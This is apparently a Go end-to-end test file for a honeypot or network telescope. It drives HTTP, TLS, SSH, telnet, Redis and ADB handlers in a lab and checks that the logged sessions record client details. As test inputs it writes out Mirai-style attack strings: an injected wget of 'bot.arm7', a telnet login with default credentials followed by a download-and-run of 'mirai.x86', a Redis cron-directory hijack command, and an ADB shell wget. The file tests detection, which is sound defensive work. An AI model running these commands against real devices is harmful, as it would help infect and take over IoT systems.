package test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/lab"
)

// e2eRawEvents reads every event of the log directory (rotated hours may
// be gzipped) as a generic JSON object, so that the handlers' detail
// objects can be checked.
func e2eRawEvents(t *testing.T, dir string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, f := range e2eLogFiles(t, dir)[e2eEvents] {
		for _, line := range e2eReadLines(t, f) {
			var m map[string]any
			if err := json.Unmarshal([]byte(line), &m); err != nil {
				t.Errorf("%s: bad JSON line: %v", f, err)
				continue
			}
			out = append(out, m)
		}
	}
	return out
}

// e2eFindSession returns the session event to port served by appProto.
func e2eFindSession(events []map[string]any, appProto string, port float64) map[string]any {
	for _, e := range events {
		if e["event_type"] == "session" && e["app_proto"] == appProto && e["dest_port"] == port {
			return e
		}
	}
	return nil
}

// e2eField walks a path of object keys.
func e2eField(m map[string]any, path ...string) any {
	var v any = m
	for _, k := range path {
		o, ok := v.(map[string]any)
		if !ok {
			return nil
		}
		v = o[k]
	}
	return v
}

// TestHandlersRealClients drives the protocol handlers with real clients
// from the lab's scanner host and checks what each session recorded:
// curl (http, with a downloader in the URL), openssl s_client (tls: SNI,
// JA3, JA4), ssh in batch mode (banner, HASSH) and a scripted telnet bot
// (credentials, a wget downloader).
func TestHandlersRealClients(t *testing.T) {
	l := e2eNewLab(t, lab.Config{}, "curl", "openssl", "ssh", "nc")
	tel := e2eStartTelescope(t, l)

	_, _, code := e2eExec(t, l, l.Scanner, 10*time.Second, nil, "curl", "-sS", "--noproxy", "*", "--max-time", "5",
		"-A", "e2e-agent", "http://198.51.100.80/shell?cd+/tmp;wget+http://203.0.113.9/bot.arm7")
	if code != 0 {
		t.Errorf("curl against the http handler: exit %d, want 0 (a page)", code)
	}
	e2eExec(t, l, l.Scanner, 10*time.Second, []byte{}, "openssl", "s_client", "-connect", "198.51.100.43:443",
		"-servername", "sni.e2e.test")
	_, sshErr, _ := e2eExec(t, l, l.Scanner, 15*time.Second, nil, "ssh", "-o", "BatchMode=yes",
		"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
		"root@198.51.100.22")
	bot := "root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncd /tmp; wget http://203.0.113.9/mirai.x86 -O m; chmod +x m; ./m\r\n"
	out, _, _ := e2eExec(t, l, l.Scanner, 15*time.Second, []byte(bot), "nc", "-q", "3", "-w", "5", "198.51.100.23", "23")
	if !strings.Contains(out, "ECCHI: applet not found") {
		t.Errorf("telnet shell answered %q, want the BusyBox applet reply", e2eTruncate(out, 300))
	}
	tel.stop(t)

	events := e2eRawEvents(t, tel.logDir)
	if s := e2eFindSession(events, "http", 80); s == nil {
		t.Errorf("no http session on port 80")
	} else if ua := e2eField(s, "http", "http_user_agent"); ua != "e2e-agent" {
		t.Errorf("http user agent = %v, want e2e-agent", ua)
	}
	if s := e2eFindSession(events, "tls", 443); s == nil {
		t.Errorf("no tls session on port 443")
	} else {
		if sni := e2eField(s, "tls", "sni"); sni != "sni.e2e.test" {
			t.Errorf("tls sni = %v, want sni.e2e.test", sni)
		}
		if ja4, _ := e2eField(s, "tls", "ja4").(string); !strings.HasPrefix(ja4, "t1") {
			t.Errorf("tls ja4 = %q, want a JA4 of TLS over TCP", ja4)
		}
		if ja3, _ := e2eField(s, "tls", "ja3", "hash").(string); len(ja3) != 32 {
			t.Errorf("tls ja3.hash = %q, want an md5", ja3)
		}
	}
	if s := e2eFindSession(events, "ssh", 22); s == nil {
		t.Errorf("no ssh session on port 22 (ssh said %q)", e2eTruncate(sshErr, 200))
	} else {
		if b, _ := e2eField(s, "ssh", "client", "software_version").(string); !strings.HasPrefix(b, "OpenSSH") {
			t.Errorf("ssh client.software_version = %q", b)
		}
		if h, _ := e2eField(s, "ssh", "client", "hassh", "hash").(string); len(h) != 32 {
			t.Errorf("ssh client.hassh.hash = %q, want an md5", h)
		}
	}
	if s := e2eFindSession(events, "telnet", 23); s == nil {
		t.Errorf("no telnet session on port 23")
	} else if b, _ := json.Marshal(s["telnet"]); !strings.Contains(string(b), "xc3511") || !strings.Contains(string(b), "/bin/busybox ECCHI") {
		t.Errorf("telnet detail %s lacks the password or the command", e2eTruncate(string(b), 400))
	}
	var urls []string
	for _, e := range events {
		if e["event_type"] == "downloader" {
			u, _ := e["url"].(string)
			urls = append(urls, u)
		}
	}
	for _, want := range []string{"http://203.0.113.9/bot.arm7", "http://203.0.113.9/mirai.x86"} {
		found := false
		for _, u := range urls {
			found = found || u == want
		}
		if !found {
			t.Errorf("no downloader event for %s (got %v)", want, urls)
		}
	}
}

// TestHandlersRedisAndADB drives the redis and adb handlers with Debian's
// redis-cli and adb from the scanner host.
func TestHandlersRedisAndADB(t *testing.T) {
	l := e2eNewLab(t, lab.Config{}, "redis-cli", "adb")
	tel := e2eStartTelescope(t, l)

	out, errOut, code := e2eExec(t, l, l.Scanner, 10*time.Second, nil, "redis-cli", "-h", "198.51.100.63", "-p", "6379",
		"config", "set", "dir", "/var/spool/cron")
	if code != 0 || !strings.Contains(out, "OK") {
		t.Errorf("redis-cli: exit %d, out %q, err %q; want OK", code, out, errOut)
	}

	// adb starts a server daemon: give it its own port and home, and stop
	// it (by its own command, then by PID if it survives) at the end.
	home := t.TempDir()
	port := "5123"
	env := []string{"HOME=" + home}
	adb := func(timeout time.Duration, args ...string) (string, string, int) {
		return e2eExec(t, l, l.Scanner, timeout, nil, "env", append(append(env, "adb", "-P", port), args...)...)
	}
	t.Cleanup(func() { adb(10*time.Second, "kill-server") })
	out, errOut, code = adb(20*time.Second, "connect", "198.51.100.55:5555")
	if code != 0 || !strings.Contains(out, "connected") {
		t.Errorf("adb connect: exit %d, out %q, err %q", code, out, errOut)
	}
	adb(20*time.Second, "-s", "198.51.100.55:5555", "shell", "cd /data/local/tmp; wget http://203.0.113.9/adb.sh")
	adb(10*time.Second, "disconnect", "198.51.100.55:5555")
	adb(10*time.Second, "kill-server")
	tel.stop(t)

	events := e2eRawEvents(t, tel.logDir)
	if s := e2eFindSession(events, "redis", 6379); s == nil {
		t.Errorf("no redis session")
	} else if b, _ := json.Marshal(s["redis"]); !strings.Contains(string(b), "/var/spool/cron") {
		t.Errorf("redis detail %s lacks the command", b)
	}
	found := false
	for _, e := range events {
		if e["event_type"] == "session" && e["app_proto"] == "adb" {
			b, _ := json.Marshal(e["adb"])
			found = found || strings.Contains(string(b), "wget http://203.0.113.9/adb.sh")
		}
	}
	if !found {
		t.Errorf("no adb session recorded the shell service")
	}
}
